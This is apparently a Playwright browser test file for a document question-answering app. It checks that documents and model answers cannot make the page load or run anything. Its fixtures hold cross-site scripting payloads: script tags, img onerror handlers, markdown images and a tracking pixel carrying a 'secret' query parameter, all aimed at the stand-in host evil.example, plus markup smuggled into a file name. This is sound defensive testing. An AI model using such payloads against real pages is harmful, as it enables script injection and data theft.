"""What documents and models may not do to a reader: fetch anything, run anything, hold a page up."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Page, Position, expect

from tests.browser.application import visiting
from tests.browser.test_journey import ask, turn_to
from tests.support.command import Home
from tests.support.hostile_pdf import slow_to_shade
from tests.support.servers import Reply, Request, events, scripted
from ui.samples.questions import SAMPLE_DOCUMENTS
from ui.web.page_image import PageLimits

pytestmark = pytest.mark.browser

NAME: Position = {"x": 110.0, "y": 52.0}
"""The name of the first file in the list of documents, in pixels from its corner."""
EVIL = "http://evil.example"
IMAGE = f"""<img src="{EVIL}/b.png" onerror="document.title='owned'">"""
TEXT = f"""The <b>Quarry</b> Lake ![picture]({EVIL}/a.png) is {IMAGE} deep.

The Quarry Lake holds 9 metres of water. :red[See] [here]({EVIL}/c) and $x^2$ <script>document.title='owned'</script>

The Quarry Lake was dug by <script>document.title='owned'</script> Edda Marsh in 1921, says {EVIL}/d.
"""
ANSWER = (
    "The lake holds 9 metres of water [1]. It was dug by Napoleon in 1805 on a Tuesday [1].\n\n",
    f"![pixel]({EVIL}/e.png?secret=9) <img src='{EVIL}/f.png'> [more]({EVIL}/g) ",
    f"<script>document.title='owned'</script> {EVIL}/h",
)


def with_document(home: Home) -> Home:
    papers = home.folder / "papers"
    papers.mkdir()
    (papers / f"![x]({EVIL.replace('/', '_')}) <i>lake<.txt").write_text(TEXT)
    ran = home.run("ingest", papers)
    assert ran.code == 0, ran
    return home


def model_settings(url: str) -> dict[str, str]:
    return {"GRAPHLOOP_LLM__BASE_URL": url, "GRAPHLOOP_LLM__MODEL": "m"}


def is_harmless(page: Page) -> None:
    """Nothing of the text took effect; the page's watch tells of requests."""
    assert "owned" not in page.title()
    main = page.get_by_test_id("stMain")
    assert main.locator("[src*='evil'], [href*='evil'], [srcset*='evil']").count() == 0
    assert main.locator("script, iframe, object, embed").count() == 0


def test_documents_are_shown_as_they_are_written(page: Page, fresh: Home) -> None:
    with visiting(page, with_document(fresh)):
        ask(page, "How much water does the Quarry Lake hold?")
        page.get_by_role("button", name=re.compile("1 · .*lake")).click()
        expect(page.locator(".st-key-source mark").first).to_be_visible()
        expect(page.locator(".st-key-source")).to_contain_text(f"![picture]({EVIL}/a.png)")
        expect(page.locator(".st-key-source")).to_contain_text("<script>")
        page.get_by_role("radio", name="Graph").click()
        expect(page.locator("canvas").first).to_be_visible()
        is_harmless(page)
        page.get_by_role("radio", name="Why these passages").click()
        expect(page.get_by_text("found by").first).to_be_visible()
        is_harmless(page)
        turn_to(page, "Graph")
        page.locator("[class*=st-key-entity] button").first.click()
        expect(page.locator("canvas").first).to_be_visible()
        is_harmless(page)
        turn_to(page, "Documents")
        files = page.locator("[class*=st-key-files]").get_by_test_id("stDataFrame")
        expect(files.locator("canvas").first).to_be_visible()
        files.click(position=NAME)
        expect(page.locator(".gl-document")).to_contain_text(f"![picture]({EVIL}/a.png)")
        expect(page.locator(".gl-document")).to_contain_text("<script>")
        is_harmless(page)


def test_models_can_make_a_page_fetch_nothing(page: Page, fresh: Home) -> None:
    def script(request: Request) -> Reply:
        return Reply(body=events(*ANSWER), kind="text/event-stream")

    with scripted(script) as server, visiting(page, with_document(fresh), model_settings(server.url)):
        ask(page, "How much water does the Quarry Lake hold?")
        expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("9 metres of water")
        expect(page.get_by_text(re.compile(r"\bverified$")).first).to_be_visible()
        expect(page.get_by_text(re.compile(r"\bunverified$")).first).to_be_visible()
        is_harmless(page)


def test_a_slow_answer_can_be_stopped_and_asked_again(page: Page, fresh: Home) -> None:
    asked = threading.Event()

    def script(request: Request) -> Reply:
        slow = not asked.is_set()
        asked.set()
        return Reply(body=events("It holds 9 metres of water [1]."), kind="text/event-stream", delay=90 if slow else 0)

    with scripted(script) as server, visiting(page, with_document(fresh), model_settings(server.url)):
        ask(page, "How much water does the Quarry Lake hold?")
        expect(page.get_by_test_id("stChatInputTextArea")).to_be_disabled()
        asked.wait(60)
        page.reload()
        page.get_by_role("button", name="Stop").click()
        expect(page.get_by_text("Stopped")).to_be_visible()
        page.get_by_role("button", name="Ask again").click()
        expect(page.get_by_text(re.compile(r"\bverified$")).first).to_be_visible()


def test_a_model_that_is_not_there_is_told_in_one_line(page: Page, fresh: Home, tmp_path: Path) -> None:
    def script(request: Request) -> Reply:
        return Reply(401, {"error": {"message": "no such key"}})

    with scripted(script) as server, visiting(page, with_document(fresh), model_settings(server.url)):
        ask(page, "How much water does the Quarry Lake hold?")
        expect(page.get_by_test_id("stAlert")).to_contain_text("answered offline, because the language model failed")
        expect(page.locator(".gl-answer", has_text="Quarry Lake").last).to_be_visible()
        expect(page.get_by_text("Traceback")).to_have_count(0)


def test_a_page_that_takes_hours_to_draw_keeps_no_other_from_being_shown(page: Page, fresh: Home) -> None:
    papers = fresh.folder / "papers"
    papers.mkdir()
    (papers / "light.pdf").write_bytes(slow_to_shade("The Skerry Light was built in 1874 by Marion Teague."))
    (papers / "review.pdf").write_bytes((SAMPLE_DOCUMENTS / "annual-review-2024.pdf").read_bytes())
    assert fresh.run("ingest", papers).code == 0
    longest = 2_000 * PageLimits().deadline
    with visiting(page, fresh):
        show(page, "Who built the Skerry Light?", "light.pdf")
        other = page.context.new_page()
        other.goto(page.url)
        show(other, "How many sea trout did the counter record in 2024?", "review.pdf")
        # The text is there at once; the picture of another file comes while this one's is being tried.
        expect(page.locator(".st-key-source mark").first).to_contain_text("Skerry Light")
        source = other.locator(".st-key-source")
        source.get_by_role("tab", name=re.compile("^Page")).click(timeout=longest)
        expect(source.get_by_test_id("stImage").locator("img")).to_be_visible()
        expect(page.get_by_text(re.compile("The page cannot be shown: it "))).to_be_visible(timeout=longest)
        expect(page.locator(".st-key-source mark").first).to_contain_text("Skerry Light")
        expect(page.get_by_role("tab")).to_have_count(0)
        other.close()


def show(page: Page, question: str, name: str) -> None:
    """Ask, and open the first source of the answer."""
    ask(page, question)
    # Of several sources in one file the file is named above them.
    page.get_by_role("button", name=re.compile(f"1 · ({name}|page)")).click()
